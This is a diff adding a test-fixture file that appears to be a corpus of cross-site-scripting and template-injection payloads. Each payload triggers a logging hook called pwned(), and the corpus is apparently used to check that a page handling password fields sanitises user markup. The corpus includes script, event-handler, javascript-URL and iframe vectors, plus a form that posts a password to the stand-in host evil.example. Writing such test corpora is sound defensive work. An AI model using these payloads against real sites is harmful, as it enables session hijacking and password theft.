@@ -1,0 +1,20 @@
+/**
+ * Markup that people could write where others type their passwords. Each calls `pwned()` if it runs, which `TRAP` notes
+ * down.
+ */
+export const CORPUS = [
+  '<script>pwned()</script>',
+  '</title><script>pwned()</script>',
+  '"><img src=x onerror=pwned()>',
+  "'><svg/onload=pwned()>",
+  '</main></body><iframe srcdoc="<script>parent.pwned()</script>">',
+  '<a href="javascript:pwned()">Continue</a>',
+  '<style>*{display:none}</style>',
+  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
+  '<form action=//evil.example><input name=password></form>',
+  '{{constructor.constructor("pwned()")()}}',
+  `\${pwned()}\`;pwned();//`,
+  '&lt;img src=x onerror=pwned()&gt; &amp; {0}',
+] as const;
+
+export const TRAP = `window.ran = []; window.pwned = () => { ran.push(location.href); };`;
